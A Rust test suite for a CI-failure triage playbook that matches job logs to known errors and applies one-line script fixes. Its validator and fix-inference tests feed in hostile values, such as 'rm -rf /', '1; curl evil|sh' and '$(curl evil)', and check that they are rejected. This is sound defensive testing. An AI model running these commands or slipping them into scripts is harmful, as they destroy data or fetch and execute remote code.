//! The structured playbook: InferenceX's entries against the corpus written
//! from their symptoms and near-misses, errors in broken playbooks, and the
//! fixes' byte-exact edits.

#[path = "playbook-corpus/corpus.rs"]
mod corpus;

use klaud_lifecycle::playbook::{
    Class, Fix, FixError, JobContext, JobLogView, Limits, Playbook, Triage, matches, triage,
};
use proptest::prelude::*;

static INFERENCEX: std::sync::LazyLock<Playbook> =
    std::sync::LazyLock::new(corpus::inferencex_playbook);

#[test]
fn inferencex_playbook_parses_with_both_languages_everywhere() {
    let p = corpus::inferencex_playbook();
    assert!(p.entries.len() >= 12, "{}", p.entries.len());
    for e in &p.entries {
        assert!(
            !e.diagnosis.en.is_empty() && !e.diagnosis.zh.is_empty(),
            "{}",
            e.id
        );
        if e.class != Class::Engine {
            assert!(e.fixes.is_empty(), "{}", e.id);
        }
    }
    for n in &p.nodes {
        assert!(p.entry(n.entry.as_deref().unwrap()).is_some(), "{}", n.name);
    }
}

#[test]
fn every_entry_matches_its_own_symptom_and_only_it() {
    let p = corpus::inferencex_playbook();
    let cases = corpus::cases();
    for e in &p.entries {
        let own: Vec<_> = cases
            .iter()
            .filter(|c| c.kind == "symptom" && c.of == e.id)
            .collect();
        assert!(
            !own.is_empty(),
            "entry {} has no symptom in the corpus",
            e.id
        );
        for c in own {
            let view = JobLogView::new(&corpus::read(&format!("logs/{}", c.log)));
            let found: Vec<String> = matches(&view, &p, &c.context.job())
                .into_iter()
                .map(|m| m.entry)
                .collect();
            assert_eq!(found, vec![e.id.clone()], "{}", c.log);
        }
    }
}

#[test]
fn no_entry_signature_matches_another_entrys_symptom_even_out_of_scope() {
    let p = corpus::inferencex_playbook();
    for c in corpus::cases().iter().filter(|c| c.kind == "symptom") {
        let view = JobLogView::new(&corpus::read(&format!("logs/{}", c.log)));
        for e in p.entries.iter().filter(|e| e.id != c.of) {
            assert!(
                e.signature_lines(&view).is_none(),
                "{} matches {}'s symptom {}",
                e.id,
                c.of,
                c.log
            );
        }
    }
}

#[test]
fn corpus_is_classified_and_repaired_exactly_with_no_wrong_repair() {
    let p = corpus::inferencex_playbook();
    let cases = corpus::cases();
    let outcomes = corpus::run(&p, &cases);
    let wrong: Vec<String> = outcomes
        .iter()
        .filter(|o| {
            !o.classified_as_expected() || o.wrong_repair() || (o.fixed.is_some() && !o.repaired())
        })
        .map(corpus::describe)
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    let got = corpus::figures(&outcomes);
    let want = corpus::expected(&cases);
    assert_eq!(got, want, "\n{}", corpus::render(&got, &want));
    assert_eq!(got.wrong_repairs, 0);
    assert!(
        got.near_misses >= 10 && got.expected_repairs >= 6,
        "{got:?}"
    );
}

#[test]
fn triage_names_class_entry_node_and_bounded_lines() {
    let p = corpus::inferencex_playbook();
    let view = JobLogView::new(&corpus::read("logs/docker-sock.log"));
    let t = triage(&view, &p, &JobContext::default());
    let Triage::Infrastructure {
        node, entry, lines, ..
    } = &t
    else {
        panic!("{t:?}")
    };
    assert_eq!(node.as_deref(), Some("mia1-p01-g11"));
    assert_eq!(entry.as_deref(), Some("docker-socket-permission-denied"));
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0].number, 3);
    let summary = t.summary(&p);
    assert!(
        summary.en.starts_with("Infrastructure failure on mia1-p01-g11 (docker-socket-permission-denied): The node's runner"),
        "{}",
        summary.en
    );
    assert!(
        summary.zh.starts_with(
            "mia1-p01-g11 上的基础设施故障（docker-socket-permission-denied）：该节点"
        ),
        "{}",
        summary.zh
    );

    // Without a node in the log, the runner is the node.
    let view = JobLogView::new(
        "permission denied while trying to connect to the docker API at unix:///var/run/docker.sock\n",
    );
    let ctx = JobContext {
        runner_name: Some("mi355x-amds_7".into()),
        ..JobContext::default()
    };
    let Triage::Infrastructure { node, .. } = triage(&view, &p, &ctx) else {
        panic!()
    };
    assert_eq!(node.as_deref(), Some("mi355x-amds_7"));

    // A thousand matching lines still give a bounded report.
    let many: String = (0..1000)
        .map(|i| {
            format!(
                "(Worker_TP{i}) torch.OutOfMemoryError: CUDA out of memory. {}\n",
                "x".repeat(5000)
            )
        })
        .collect();
    let ctx = JobContext {
        framework: Some("vllm".into()),
        engine_version: Some("v0.21.0".into()),
        ..JobContext::default()
    };
    let t = triage(&JobLogView::new(&many), &p, &ctx);
    assert_eq!(t.entry(), Some("vllm-oom-at-load"));
    assert_eq!(
        t.lines().len(),
        klaud_lifecycle::playbook::MAX_MATCHED_LINES
    );
    assert!(
        t.lines()
            .iter()
            .all(|l| l.text.chars().count() <= klaud_lifecycle::playbook::MAX_MATCHED_LINE_CHARS)
    );
    // Ranks and sizes differ; the signature does not.
    assert_eq!(t.signature().unwrap().lines.len(), 1);
}

#[test]
fn the_same_failure_on_two_nodes_has_one_signature() {
    let p = Playbook::default();
    let a = triage(
        &JobLogView::new(
            "JOB 1 running on mia1-p01-g05\nRuntimeError: HIP error: invalid device function at /opt/rocm-7.0.0/x.cpp:12\n",
        ),
        &p,
        &JobContext::default(),
    );
    let b = triage(
        &JobLogView::new(
            "2026-05-01T00:00:00.0000000Z JOB 912 running on mia1-p01-g08\n2026-05-01T00:00:01.0000000Z RuntimeError: HIP error: invalid device function at /opt/rocm-7.1.0/x.cpp:99\n",
        ),
        &p,
        &JobContext::default(),
    );
    assert_eq!(a.class_name(), "unknown");
    assert_eq!(a.signature(), b.signature());
    let id = &a.signature().unwrap().id;
    assert_eq!(a.summary(&p).en, format!("Unknown failure, signature {id}"));
    assert_eq!(a.summary(&p).zh, format!("未知故障，签名 {id}"));
    assert_eq!(a.lines()[0].number, 2);
}

fn errors(text: &str) -> Vec<String> {
    Playbook::parse(".github/klaud-playbook.yaml", text)
        .unwrap_err()
        .0
        .iter()
        .map(ToString::to_string)
        .collect()
}

#[test]
fn broken_playbooks_name_file_line_entry_and_field() {
    let e = errors(
        "version: 1\nentries:\n  - id: a\n    class: engine\n    signature: {any: ['(unclosed']}\n    diagnosis: {en: x, zh: y}\n",
    );
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with(
            ".github/klaud-playbook.yaml:5: entry a: signature.any[0]: not a valid pattern"
        ),
        "{}",
        e[0]
    );

    let e = errors(
        "version: 1\nentries:\n  - id: Bad Id\n    class: sometimes\n    signature: {any: ['x'], scope: {engine_version: '~1', colour: red}}\n    diagnosis: {en: x}\n    fix: {run: 'rm -rf /'}\n",
    );
    let all = e.join("\n");
    for want in [
        ":3: entry entries[0]: id: not an id",
        ":4: entry entries[0]: class: \"sometimes\" is not one of",
        "entry entries[0]: signature.scope.engine_version: version range",
        "entry entries[0]: signature.scope.colour: unknown key",
        "entry entries[0]: diagnosis.zh: missing",
        "entry entries[0]: fix.run: unknown key",
        "entry entries[0]: fix: needs exactly one of set_arg, set_env, unset_env",
    ] {
        assert!(all.contains(want), "missing {want:?} in\n{all}");
    }

    let e = errors(
        "version: 1\nentries:\n  - id: a\n    class: infrastructure\n    signature: {any: ['.*']}\n    diagnosis: {en: x, zh: y}\n    fix: {set_env: {name: X, value: '1; curl evil|sh'}}\n  - id: a\n    class: engine\n    signature: {all: ['x']}\n    diagnosis: {en: x, zh: y}\n    fix: {set_arg: {name: '--max-num-seqs', from: '$X', to: '512'}}\n",
    );
    let all = e.join("\n");
    for want in [
        "entry a: signature.any[0]: pattern matches an empty line",
        "entry a: fix.set_env.value: \"1; curl evil|sh\" is not a plain value",
        "entry a: fix: only engine entries carry a fix",
        "entry a: fix.set_arg.from: \"$X\" is not a plain value",
        ":8: entry a: id: used by an earlier entry too",
    ] {
        assert!(all.contains(want), "missing {want:?} in\n{all}");
    }

    assert_eq!(
        errors(""),
        vec![".github/klaud-playbook.yaml: empty: a playbook needs `version: 1` and `entries`"]
    );
    assert!(
        errors("version: 2\nentries: []\n")[0].contains("version: this Klaud reads version 1 only")
    );
    assert!(errors("entries: [\n")[0].contains("not valid YAML"));
    assert!(
        errors(
            "version: 1\nentries: []\nnodes: [{name: 'a b', reason: {en: x, zh: y}, entry: nope}]\n"
        )
        .join("\n")
        .contains("nodes[0].name: \"a b\" is not a node name")
    );
}

#[test]
fn playbook_bounds_are_enforced() {
    let limits = Limits::default();
    let huge = format!(
        "version: 1\nentries: []\n# {}\n",
        "x".repeat(limits.max_bytes)
    );
    assert!(errors(&huge)[0].contains("more than the"));
    let long = format!(
        "version: 1\nentries:\n  - id: a\n    class: engine\n    signature: {{any: ['{}']}}\n    diagnosis: {{en: x, zh: y}}\n",
        "a".repeat(limits.max_pattern_chars + 1)
    );
    assert!(errors(&long)[0].contains("pattern longer than"));
    let big = "version: 1\nentries:\n  - id: a\n    class: engine\n    signature: {any: ['(\\w{100}){100}']}\n    diagnosis: {en: x, zh: y}\n";
    assert!(
        errors(big)[0].contains("not a valid pattern"),
        "{:?}",
        errors(big)
    );
    let many: String = (0..=limits.max_entries)
        .map(|i| format!("  - id: e{i}\n    class: engine\n    signature: {{any: ['x']}}\n    diagnosis: {{en: x, zh: y}}\n"))
        .collect();
    assert!(errors(&format!("version: 1\nentries:\n{many}"))[0].contains("more than 500"));
}

#[test]
fn scope_is_checked_field_by_field() {
    let p = corpus::inferencex_playbook();
    let e = p.entry("sglang-b300-deepgemm-tma-crash").unwrap();
    let ctx = JobContext {
        framework: Some("sglang".into()),
        engine_version: Some("v0.5.12-cu130".into()),
        hardware: Some("B300".into()),
        runner_name: Some("b300-nv_0".into()),
        family: None,
    };
    assert!(e.applies_to(&ctx));
    for broken in [
        JobContext {
            framework: Some("vllm".into()),
            ..ctx.clone()
        },
        JobContext {
            engine_version: Some("v0.5.11-cu130".into()),
            ..ctx.clone()
        },
        JobContext {
            engine_version: None,
            ..ctx.clone()
        },
        JobContext {
            hardware: Some("b200".into()),
            ..ctx.clone()
        },
        JobContext {
            hardware: None,
            ..ctx.clone()
        },
    ] {
        assert!(!e.applies_to(&broken), "{broken:?}");
    }
    let dsv4 = p.entry("sglang-dsv4-generic-image-oom").unwrap();
    let ctx = JobContext {
        framework: Some("sglang".into()),
        engine_version: Some("v0.5.12-cu130".into()),
        family: Some("configs/nvidia-master.yaml:dsv4-fp8-h200-sglang-mtp".into()),
        ..JobContext::default()
    };
    assert!(dsv4.applies_to(&ctx));
    assert!(!dsv4.applies_to(&JobContext {
        family: Some("dsr1-fp8-h200-sglang".into()),
        ..ctx
    }));
}

#[test]
fn fixes_are_never_applied_twice() {
    let p = corpus::inferencex_playbook();
    for e in &p.entries {
        for fix in &e.fixes {
            for script in [
                "scripts/vllm-h200.sh",
                "scripts/vllm-mi300x.sh",
                "scripts/vllm-b200-kimi.sh",
                "scripts/gb300-decode.yaml",
                "scripts/sglang-b300-glm5.sh",
                "scripts/sglang-b300-glm5-mtp.sh",
                "scripts/sglang-b300-variable.sh",
            ] {
                if let Ok(a) = fix.apply(&corpus::read(script)) {
                    assert!(
                        matches!(
                            fix.apply(&a.text),
                            Err(FixError::AlreadyApplied { .. })
                                | Err(FixError::ValueMismatch { .. })
                        ),
                        "{} {} on {script}",
                        e.id,
                        fix.describe()
                    );
                }
            }
        }
    }
}

/// Lines of a script, with their endings, for comparing edits.
fn lines(s: &str) -> Vec<&str> {
    s.split_inclusive('\n').collect()
}

fn script_line() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("vllm serve $MODEL --port $PORT \\\n".to_owned()),
        Just("--gpu-memory-utilization 0.95 \\\n".to_owned()),
        Just("  --max-num-seqs=256 \\\n".to_owned()),
        Just("export VLLM_X=1\n".to_owned()),
        Just("# --gpu-memory-utilization 0.5\n".to_owned()),
        Just("max-num-seqs: 4096\n".to_owned()),
        "[ -~]{0,40}\n",
        "[ -~\u{e9}\u{4e2d}]{0,20}",
    ]
}

proptest! {
    #[test]
    fn a_fix_changes_exactly_one_line_or_adds_or_removes_one(
        body in proptest::collection::vec(script_line(), 0..12),
        which in 0usize..5,
        value in "[0-9.]{1,4}",
    ) {
        let script: String = body.concat();
        let fix = match which {
            0 => Fix::SetArg { name: "gpu-memory-utilization".into(), from: Some("0.95".into()), to: value.clone() },
            1 => Fix::SetArg { name: "max-num-seqs".into(), from: None, to: value.clone() },
            2 => Fix::SetEnv { name: "VLLM_X".into(), value: value.clone() },
            3 => Fix::SetEnv { name: "NEW_VAR".into(), value: value.clone() },
            _ => Fix::UnsetEnv { name: "VLLM_X".into() },
        };
        if let Ok(a) = fix.apply(&script) {
            let (old, new) = (lines(&script), lines(&a.text));
            let i = a.line - 1;
            match (&a.before, &a.after) {
                (Some(_), Some(after)) => {
                    prop_assert_eq!(old.len(), new.len());
                    for (k, (o, n)) in old.iter().zip(&new).enumerate() {
                        if k != i { prop_assert_eq!(o, n); }
                    }
                    prop_assert!(new[i].contains(after.as_str()));
                    prop_assert!(new[i].contains(value.as_str()));
                }
                (None, Some(_)) => {
                    let mut without = new.clone();
                    without.remove(i);
                    prop_assert_eq!(without.concat(), script.clone());
                }
                (Some(_), None) => {
                    let mut without = old.clone();
                    without.remove(i);
                    prop_assert_eq!(without.concat(), a.text.clone());
                }
                (None, None) => prop_assert!(false, "an edit without a line"),
            }
            prop_assert!(fix.apply(&a.text).is_err(), "applied twice: {}", fix.describe());
        }
    }

    #[test]
    fn hostile_playbooks_and_logs_never_panic(text in "[ -~\n\t\u{e9}]{0,400}", log in "[ -~\n\u{1b}\r]{0,400}") {
        let _ = Playbook::parse("x.yaml", &text);
        let wrapped = format!("version: 1\nentries:\n  - id: a\n    class: engine\n    signature: {{any: [{text:?}]}}\n    diagnosis: {{en: x, zh: y}}\n");
        if let Ok(p) = Playbook::parse("x.yaml", &wrapped) {
            let _ = triage(&JobLogView::new(&log), &p, &JobContext::default());
        }
        let _ = triage(&JobLogView::new(&log), &INFERENCEX, &JobContext::default());
    }
}

#[test]
fn a_script_change_is_read_back_as_the_fix_it_is() {
    use klaud_lifecycle::playbook::Fix;
    let pairs = [
        (
            "scripts/vllm-h200.sh",
            "scripts/vllm-h200.fixed.sh",
            Some(Fix::SetArg {
                name: "gpu-memory-utilization".into(),
                from: Some("0.95".into()),
                to: "0.90".into(),
            }),
        ),
        (
            "scripts/vllm-mi300x.sh",
            "scripts/vllm-mi300x.fixed.sh",
            Some(Fix::SetArg {
                name: "gpu-memory-utilization".into(),
                from: Some("0.95".into()),
                to: "0.90".into(),
            }),
        ),
        (
            "scripts/vllm-b200-kimi.sh",
            "scripts/vllm-b200-kimi.fixed.sh",
            Some(Fix::SetEnv {
                name: "VLLM_MEMORY_PROFILER_ESTIMATE_CUDAGRAPHS".into(),
                value: "0".into(),
            }),
        ),
        (
            "scripts/gb300-decode.yaml",
            "scripts/gb300-decode.fixed.yaml",
            Some(Fix::SetArg {
                name: "max-cudagraph-capture-size".into(),
                from: Some("8192".into()),
                to: "2048".into(),
            }),
        ),
        (
            "scripts/vllm-b200-kimi.fixed.sh",
            "scripts/vllm-b200-kimi.sh",
            Some(Fix::UnsetEnv {
                name: "VLLM_MEMORY_PROFILER_ESTIMATE_CUDAGRAPHS".into(),
            }),
        ),
        // Two changes at once, and no change, are not one fix.
        ("scripts/vllm-h200.sh", "scripts/vllm-h200-already.sh", None),
        ("scripts/vllm-h200.sh", "scripts/vllm-h200.sh", None),
    ];
    for (before, after, want) in pairs {
        assert_eq!(
            Fix::infer(&corpus::read(before), &corpus::read(after)),
            want,
            "{before} → {after}"
        );
    }
    // A value that could run code is not a fix of the vocabulary.
    assert_eq!(
        Fix::infer("vllm serve --x 1\n", "vllm serve --x $(curl evil)\n"),
        None
    );
    assert_eq!(
        Fix::infer("vllm serve --x 1 --y 2\n", "vllm serve --x 3 --y 4\n"),
        None
    );
}

#[test]
fn a_learned_entry_reads_back_matches_its_failure_and_carries_the_fix() {
    use klaud_lifecycle::playbook::{Class, FailedRun, Fix, LearnInput, propose_entry};
    let log = "JOB 7 running on b200-node-4\n(EngineCore_DP0 pid=301) ERROR 05-21 09:11:02 [core.py:708] RuntimeError: NCCL error in: /opt/nccl/src/init.cc:1203, unhandled cuda error 'out of memory' on rank 3\nServer process exited before becoming ready\n";
    let view = JobLogView::new(log);
    let ctx = JobContext {
        framework: Some("vllm".into()),
        engine_version: Some("v0.21.0-cu130".into()),
        hardware: Some("b200".into()),
        runner_name: Some("b200-nb_1".into()),
        family: Some("configs/nvidia-master.yaml:kimik2.5-fp4-b200-vllm".into()),
    };
    let Triage::Unknown { signature, .. } = triage(&view, &Playbook::default(), &ctx) else {
        panic!()
    };
    let before = corpus::read("scripts/vllm-h200.sh");
    let after = corpus::read("scripts/vllm-h200.fixed.sh");
    let fix = Fix::infer(&before, &after);
    assert!(fix.is_some());
    let proposal = propose_entry(&LearnInput {
        signature: &signature,
        ctx: &ctx,
        class: Class::Engine,
        fix,
        change: String::new(),
        pull: Some(2001),
        failed: FailedRun::Smoke,
    })
    .unwrap();
    let text = format!("version: 1\nentries:\n{}", proposal.yaml);
    let learned = Playbook::parse("learned.yaml", &text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let entry = learned.entry(&proposal.id).unwrap();
    assert!(entry.applies_to(&ctx));
    assert!(!entry.applies_to(&JobContext {
        hardware: Some("h200".into()),
        ..ctx.clone()
    }));
    // The same failure on another node, rank and day is recognised.
    let again = log
        .replace("b200-node-4", "b200-node-9")
        .replace("rank 3", "rank 0")
        .replace("05-21 09:11:02", "06-01 00:00:00")
        .replace("pid=301", "pid=17");
    assert_eq!(
        triage(&JobLogView::new(&again), &learned, &ctx).entry(),
        Some(proposal.id.as_str())
    );
    assert_eq!(entry.fixes[0].apply(&before).unwrap().text, after);
    assert!(
        proposal
            .yaml
            .contains("seen_on: [2001, 'kimik2.5-fp4-b200-vllm']"),
        "{}",
        proposal.yaml
    );
    // Without a fix it is still an entry, saying what the change was.
    let bare = propose_entry(&LearnInput {
        signature: &signature,
        ctx: &JobContext::default(),
        class: Class::Engine,
        fix: None,
        change: "a person's push to the pull request".into(),
        pull: None,
        failed: FailedRun::Smoke,
    })
    .unwrap();
    let p = Playbook::parse("l.yaml", &format!("version: 1\nentries:\n{}", bare.yaml)).unwrap();
    assert!(p.entries[0].fixes.is_empty());
    assert!(p.entries[0].diagnosis.en.contains("a person's push"));
    assert!(
        p.entries[0].diagnosis.en.contains("a smoke failed"),
        "{:?}",
        p.entries[0].diagnosis
    );
    // A final sweep's failure is named as one, in both languages.
    let swept = propose_entry(&LearnInput {
        signature: &signature,
        ctx: &JobContext::default(),
        class: Class::Engine,
        fix: None,
        change: "a person's push to the pull request".into(),
        pull: None,
        failed: FailedRun::Sweep,
    })
    .unwrap();
    let p = Playbook::parse("l.yaml", &format!("version: 1\nentries:\n{}", swept.yaml)).unwrap();
    let d = &p.entries[0].diagnosis;
    assert!(
        d.en.contains("a final sweep failed with these lines"),
        "{d:?}"
    );
    assert!(!d.en.contains("smoke"), "{d:?}");
    assert!(d.zh.contains("一次最终 sweep以这些日志行失败"), "{d:?}");
}

#[test]
fn teardown_noise_and_a_sick_node_say_why_in_both_languages() {
    let p = corpus::inferencex_playbook();
    let t = triage(
        &JobLogView::new(&corpus::read("logs/teardown-enginedead.log")),
        &p,
        &JobContext::default(),
    );
    assert!(!t.is_failure());
    let s = t.summary(&p);
    assert!(
        s.en.starts_with("Teardown noise after the benchmark window (results printed on line 2), not a failure (engine-dead-after-window): The engine died"),
        "{}",
        s.en
    );
    assert!(s.zh.contains("第 2 行已输出结果"), "{}", s.zh);
    let t = triage(
        &JobLogView::new(&corpus::read("logs/sick-node-unknown.log")),
        &p,
        &JobContext::default(),
    );
    assert!(
        t.summary(&p)
            .en
            .starts_with("Infrastructure failure on chi-mi300x-049 (node-local-disk-full)")
    );
}
